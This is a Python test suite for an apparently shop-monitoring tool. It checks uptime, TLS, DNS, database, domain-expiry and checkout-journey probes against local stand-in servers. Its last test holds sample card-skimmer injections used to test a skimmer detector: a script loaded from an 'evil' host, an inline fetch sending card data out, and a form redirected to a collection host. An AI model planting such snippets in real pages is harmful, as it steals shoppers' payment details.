"""Each probe against a real target on loopback (or the machine's databases)."""

from __future__ import annotations

import asyncio
import concurrent.futures
import datetime as dt
import json
import socket
import ssl
import threading
import time
from collections.abc import AsyncIterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from sgmon_support import Target, free_port

from shopguard.monitoring.interface import ConfigProblem, ProbeContext, Status
from shopguard.monitoring.probes import probe_for
from shopguard.monitoring.settings import (
    DatabaseMonitor,
    DnsMonitor,
    DomainMonitor,
    HeartbeatMonitor,
    HostMonitor,
    HttpMonitor,
    JourneyMonitor,
    RedisMonitor,
    TcpMonitor,
    TlsMonitor,
)


@pytest.fixture
async def ctx() -> AsyncIterator[ProbeContext]:
    beats: dict[str, float] = {}
    c = ProbeContext(
        http=httpx.AsyncClient(trust_env=False),
        http_insecure=httpx.AsyncClient(verify=False, trust_env=False),
        blocking=concurrent.futures.ThreadPoolExecutor(4),
        last_beat=beats.get,
        started_wall=time.time(),
        wall=time.time,
        allow_inline_secrets=False,
    )
    c.extra["beats"] = beats
    yield c
    await c.http.aclose()
    await c.http_insecure.aclose()
    c.blocking.shutdown(wait=False)


async def run(spec: Any, ctx: ProbeContext, key: str = "shop/m") -> Any:
    return await probe_for(spec.kind)(spec, key, ctx)


# -- HTTP --------------------------------------------------------------------


async def test_http_status_keyword_latency_and_hash(target: Target, ctx: ProbeContext) -> None:
    ok = await run(HttpMonitor(name="m", url=target.url, keyword="Welcome"), ctx)
    assert ok.status is Status.UP and ok.latency_ms is not None and ok.latency_ms > 0
    missing = await run(HttpMonitor(name="m", url=target.url, keyword="Checkout"), ctx)
    assert missing.status is Status.DOWN and "'Checkout' not found" in missing.message
    bad_word = await run(HttpMonitor(name="m", url=target.url, absent_keyword="Welcome"), ctx)
    assert bad_word.status is Status.DOWN and "unwanted text" in bad_word.message
    target.status = 500
    err = await run(HttpMonitor(name="m", url=target.url), ctx)
    assert err.status is Status.DOWN and err.message == "HTTP 500 (expected 200)"
    target.status = 200
    target.delay = 0.05
    slow = await run(HttpMonitor(name="m", url=target.url, max_latency_ms=10), ctx)
    assert slow.status is Status.DOWN and slow.message.startswith("slow:")
    target.delay = 0
    spec = HttpMonitor(name="m", url=target.url, watch_content=True)
    first = await run(spec, ctx)
    same = await run(spec, ctx)
    assert "changed_from" not in first.data and "changed_from" not in same.data
    target.body = b"<html>Welcome - now with an extra script</html>"
    changed = await run(spec, ctx)
    assert changed.status is Status.UP and changed.data["changed_from"] == first.data["content_sha256"]


async def test_http_garbage_hang_and_refused(target: Target, ctx: ProbeContext) -> None:
    target.garbage = True
    garbage = await run(HttpMonitor(name="m", url=target.url), ctx)
    assert garbage.status is Status.DOWN and "not a valid HTTP answer" in garbage.message
    target.garbage = False
    target.delay = 3
    t0 = time.monotonic()
    hung = await run(HttpMonitor(name="m", url=target.url, timeout_s=0.3), ctx)
    assert hung.status is Status.DOWN and "timeout" in hung.message and time.monotonic() - t0 < 2
    target.delay = 0
    refused = await run(HttpMonitor(name="m", url=f"http://127.0.0.1:{free_port()}/"), ctx)
    assert refused.status is Status.DOWN and refused.message == "connection refused"


# -- TCP ---------------------------------------------------------------------


async def test_tcp(target: Target, ctx: ProbeContext) -> None:
    up = await run(TcpMonitor(name="m", host="127.0.0.1", port=target.port), ctx)
    assert up.status is Status.UP
    down = await run(TcpMonitor(name="m", host="127.0.0.1", port=free_port()), ctx)
    assert down.status is Status.DOWN and "refused" in down.message.lower()


# -- TLS ---------------------------------------------------------------------


def _self_signed(tmp: Path, days: int) -> tuple[Path, Path]:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=days))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .sign(key, hashes.SHA256())
    )
    cp, kp = tmp / f"c{days}.pem", tmp / f"k{days}.pem"
    cp.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    kp.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    return cp, kp


async def _tls_server(cert: Path, key: Path) -> tuple[asyncio.Server, int]:
    sctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    sctx.load_cert_chain(cert, key)

    async def handle(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        w.close()

    srv = await asyncio.start_server(handle, "127.0.0.1", 0, ssl=sctx)
    return srv, srv.sockets[0].getsockname()[1]


async def test_tls_expiry_and_trust(tmp_path: Path, ctx: ProbeContext) -> None:
    cert, key = _self_signed(tmp_path, 10)
    srv, port = await _tls_server(cert, key)
    async with srv:
        soon = await run(
            TlsMonitor(name="m", host="127.0.0.1", server_name="localhost", port=port, verify=False), ctx
        )
        assert (
            soon.status is Status.DOWN and "expires in" in soon.message and 9 <= soon.data["days_left"] <= 10
        )
        untrusted = await run(TlsMonitor(name="m", host="127.0.0.1", server_name="localhost", port=port), ctx)
        assert untrusted.status is Status.DOWN and "not trusted" in untrusted.message
    cert, key = _self_signed(tmp_path, 90)
    srv, port = await _tls_server(cert, key)
    async with srv:
        fine = await run(TlsMonitor(name="m", host="127.0.0.1", port=port, verify=False, warn_days=21), ctx)
        assert fine.status is Status.UP and "valid for" in fine.message


# -- DNS ---------------------------------------------------------------------


class _DnsServer(asyncio.DatagramProtocol):
    """A real (tiny) authoritative DNS server: shop.test A 192.0.2.10, everything else NXDOMAIN."""

    def connection_made(self, transport: Any) -> None:
        self.transport = transport

    def datagram_received(self, data: bytes, addr: Any) -> None:
        import dns.message
        import dns.rcode
        import dns.rrset

        q = dns.message.from_wire(data)
        resp = dns.message.make_response(q)
        qname = q.question[0].name.to_text()
        if qname == "shop.test.":
            resp.answer.append(dns.rrset.from_text("shop.test.", 60, "IN", "A", "192.0.2.10"))
        else:
            resp.set_rcode(dns.rcode.NXDOMAIN)
        self.transport.sendto(resp.to_wire(), addr)


async def test_dns_expected_answer_mismatch_nxdomain_and_dead_server(ctx: ProbeContext) -> None:
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(_DnsServer, local_addr=("127.0.0.1", 0))
    port = transport.get_extra_info("sockname")[1]
    try:
        common = {"name": "m", "nameserver": "127.0.0.1", "nameserver_port": port, "timeout_s": 1}
        ok = await run(DnsMonitor(record="shop.test", expect=("192.0.2.10",), **common), ctx)
        assert ok.status is Status.UP and ok.data["answers"] == ["192.0.2.10"]
        wrong = await run(DnsMonitor(record="shop.test", expect=("198.51.100.1",), **common), ctx)
        assert wrong.status is Status.DOWN and "expected 198.51.100.1" in wrong.message
        nx = await run(DnsMonitor(record="gone.test", **common), ctx)
        assert nx.status is Status.DOWN and "NXDOMAIN" in nx.message
    finally:
        transport.close()
    dead = await run(
        DnsMonitor(
            name="m", record="shop.test", nameserver="127.0.0.1", nameserver_port=free_port(), timeout_s=0.5
        ),
        ctx,
    )
    assert dead.status is Status.DOWN


# -- databases, redis --------------------------------------------------------


async def test_mysql_postgres_redis_real_servers(ctx: ProbeContext) -> None:
    my = await run(
        DatabaseMonitor(name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", query="SELECT 41+1"),
        ctx,
    )
    assert my.status is Status.UP and my.data["result"] == "42", my.message
    pg = await run(
        DatabaseMonitor(name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test"), ctx
    )
    assert pg.status is Status.UP, pg.message
    bad_q = await run(
        DatabaseMonitor(
            name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test", query="SELECT nope"
        ),
        ctx,
    )
    assert bad_q.status is Status.DOWN and "nope" in bad_q.message
    closed = await run(
        DatabaseMonitor(name="m", kind="mysql", dsn=f"mysql://root@127.0.0.1:{free_port()}/test"), ctx
    )
    assert closed.status is Status.DOWN
    with pytest.raises(ConfigProblem, match="not a replica"):
        await run(
            DatabaseMonitor(
                name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", max_replication_lag_s=30
            ),
            ctx,
        )
    with pytest.raises(ConfigProblem, match="not a replica"):
        await run(
            DatabaseMonitor(
                name="m",
                kind="postgres",
                dsn="postgresql://postgres@127.0.0.1:5432/test",
                max_replication_lag_s=30,
            ),
            ctx,
        )
    with pytest.raises(ConfigProblem, match="SHOPGUARD_TEST_UNSET"):
        await run(
            DatabaseMonitor(
                name="m",
                kind="mysql",
                dsn="mysql://root@127.0.0.1:3306/test",
                password={"env": "SHOPGUARD_TEST_UNSET"},
            ),
            ctx,
        )
    r = await run(RedisMonitor(name="m"), ctx)
    assert r.status is Status.UP and r.message == "PONG"
    r_down = await run(RedisMonitor(name="m", url=f"redis://127.0.0.1:{free_port()}/0", timeout_s=1), ctx)
    assert r_down.status is Status.DOWN


# -- host, heartbeat ---------------------------------------------------------


async def test_host_resources(ctx: ProbeContext) -> None:
    fine = await run(
        HostMonitor(
            name="m",
            max_cpu_percent=100,
            max_load_per_cpu=1000,
            max_disk_percent=100,
            max_memory_percent=100,
            max_inode_percent=100,
            max_swap_percent=100,
        ),
        ctx,
    )
    assert fine.status is Status.UP and "/" in fine.data["mounts"]
    assert 0 <= fine.data["mounts"]["/"]["inode_percent"] <= 100
    full = await run(HostMonitor(name="m", max_disk_percent=0.0001, mounts=("/",)), ctx)
    assert full.status is Status.DOWN and "disk / " in full.message
    import psutil

    me = psutil.Process().name()  # this test's own process is certainly running
    gone = await run(HostMonitor(name="m", processes=(me, "no-such-daemon-xyz"), max_disk_percent=100), ctx)
    assert gone.status is Status.DOWN and "process no-such-daemon-xyz is not running" in gone.message
    assert gone.data["processes_missing"] == ["no-such-daemon-xyz"]


async def test_heartbeat_logic(ctx: ProbeContext) -> None:
    spec = HeartbeatMonitor(name="backup", period_s=10, grace_s=5)
    waiting = await run(spec, ctx, "shop/backup")
    assert waiting.status is Status.UP and "waiting" in waiting.message
    ctx.extra["beats"]["shop/backup"] = time.time() - 3
    recent = await run(spec, ctx, "shop/backup")
    assert recent.status is Status.UP
    ctx.extra["beats"]["shop/backup"] = time.time() - 60
    late = await run(spec, ctx, "shop/backup")
    assert late.status is Status.DOWN and "last heartbeat 60 s ago" in late.message


# -- RDAP --------------------------------------------------------------------

# Shape of a registry answer per RFC 9083 section 4.5 (events with eventAction/eventDate).
RDAP_DOC = {
    "objectClassName": "domain",
    "ldhName": "EXAMPLE-SHOP.TEST",
    "events": [
        {"eventAction": "registration", "eventDate": "2015-03-01T10:00:00Z"},
        {"eventAction": "expiration", "eventDate": "PLACEHOLDER"},
    ],
}


def _rdap_server(days: int) -> tuple[ThreadingHTTPServer, int]:
    when = (dt.datetime.now(dt.UTC) + dt.timedelta(days=days)).strftime("%Y-%m-%dT%H:%M:%SZ")
    doc = json.loads(json.dumps(RDAP_DOC))
    doc["events"][1]["eventDate"] = when

    class H(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = json.dumps(doc).encode() if self.path == "/domain/example-shop.test" else b"{}"
            self.send_response(200 if self.path == "/domain/example-shop.test" else 404)
            self.send_header("Content-Type", "application/rdap+json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a: Any) -> None:
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, srv.server_address[1]


async def test_domain_expiry_rdap(ctx: ProbeContext) -> None:
    unreachable = await run(
        DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{free_port()}/"), ctx
    )
    assert (
        unreachable.status is Status.SKIPPED
        and "RDAP service" in unreachable.message
        and "registrar" in unreachable.message
    )
    srv, port = _rdap_server(10)
    try:
        soon = await run(
            DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx
        )
        assert soon.status is Status.DOWN and "expires in" in soon.message
        unknown = await run(
            DomainMonitor(name="d", domain="other.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx
        )
        assert unknown.status is Status.SKIPPED
    finally:
        srv.shutdown()
        srv.server_close()
    srv, port = _rdap_server(300)
    try:
        fine = await run(
            DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx
        )
        assert fine.status is Status.UP
    finally:
        srv.shutdown()
        srv.server_close()


# -- shop journey ------------------------------------------------------------


def _shop(broken_basket: bool = False) -> tuple[ThreadingHTTPServer, str]:
    baskets: dict[str, list[str]] = {}

    class H(BaseHTTPRequestHandler):
        def _send(self, code: int, body: str, cookie: str | None = None) -> None:
            data = body.encode()
            self.send_response(code)
            if cookie:
                self.send_header("Set-Cookie", f"sid={cookie}; Path=/")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def _sid(self) -> str | None:
            c = self.headers.get("Cookie", "")
            return c.split("sid=", 1)[1].split(";")[0] if "sid=" in c else None

        def do_GET(self) -> None:
            if self.path == "/":
                self._send(200, "home", cookie=self._sid() or str(len(baskets) + 1000))
            elif self.path == "/p/mug":
                self._send(200, "Blue mug")
            elif self.path == "/basket":
                if broken_basket:
                    self._send(500, "Fatal error")
                    return
                self._send(200, "Basket: " + ", ".join(baskets.get(self._sid() or "", [])))
            else:
                self._send(404, "no")

        def do_POST(self) -> None:
            n = int(self.headers.get("Content-Length", "0"))
            form = self.rfile.read(n).decode()
            sid = self._sid()
            if sid is None:
                self._send(400, "no session")
                return
            baskets.setdefault(sid, []).append(form.split("product=", 1)[-1])
            self.send_response(303)
            self.send_header("Location", "/p/mug")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *a: Any) -> None:
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, f"http://127.0.0.1:{srv.server_address[1]}"


async def test_journey(ctx: ProbeContext) -> None:
    srv, base = _shop()
    try:
        spec = JourneyMonitor(
            name="j",
            home_url=base + "/",
            product_url=base + "/p/mug",
            add_to_basket_url=base + "/cart/add",
            add_to_basket_data={"product": "mug"},
            basket_url=base + "/basket",
            basket_keyword="mug",
        )
        ok = await run(spec, ctx)
        assert ok.status is Status.UP, ok.message
        assert set(ok.data["timings_ms"]) == {"home page", "product page", "add to basket", "basket page"}
    finally:
        srv.shutdown()
        srv.server_close()
    srv, base = _shop(broken_basket=True)
    try:
        bad = await run(
            spec.model_copy(
                update={
                    "home_url": base + "/",
                    "product_url": base + "/p/mug",
                    "add_to_basket_url": base + "/cart/add",
                    "basket_url": base + "/basket",
                }
            ),
            ctx,
        )
        assert (
            bad.status is Status.DOWN and bad.message.startswith("basket page") and "HTTP 500" in bad.message
        )
    finally:
        srv.shutdown()
        srv.server_close()


def test_free_port_is_loopback() -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", free_port()))


def test_page_shape_ignores_tokens_but_sees_skimmers() -> None:
    from shopguard.monitoring.probes.http import page_shape

    a = (
        '<form action="/pay?t=1"><input name="csrf" value="x1"></form>'
        '<script src="/app.js?v=1"></script><script>var t="abc"</script>'
    )
    b = (
        '<form action="/pay?t=2"><input name="csrf" value="y2"></form>'
        '<script src="/app.js?v=2"></script><script>var t="def"</script>'
    )
    assert page_shape(a) == page_shape(b)
    skim = b + '<script src="https://cdn.evil.example/jquery.min.js"></script>'
    assert page_shape(skim) != page_shape(b) and "cdn.evil.example" in page_shape(skim)
    inline = b + "<script>fetch('//x.example',{method:'POST',body:card})</script>"
    assert page_shape(inline) != page_shape(b)
    assert page_shape(b.replace('action="/pay', 'action="https://collect.example/pay')) != page_shape(b)
